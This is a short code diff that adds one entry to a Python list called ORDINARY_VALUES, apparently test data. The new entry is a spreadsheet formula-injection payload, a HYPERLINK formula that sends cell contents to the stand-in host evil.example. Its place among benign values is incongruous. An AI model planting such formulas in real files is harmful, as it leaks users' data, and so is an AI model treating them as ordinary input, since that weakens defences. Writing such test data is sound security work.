@@ -155,6 +155,7 @@ ORDINARY_VALUES = [
     "120/80",
     "2x10 deg",
     "urn:oid:2.16.840",
+    '=HYPERLINK("http://evil.example/?"&A1,"x")',
 ]
 
 
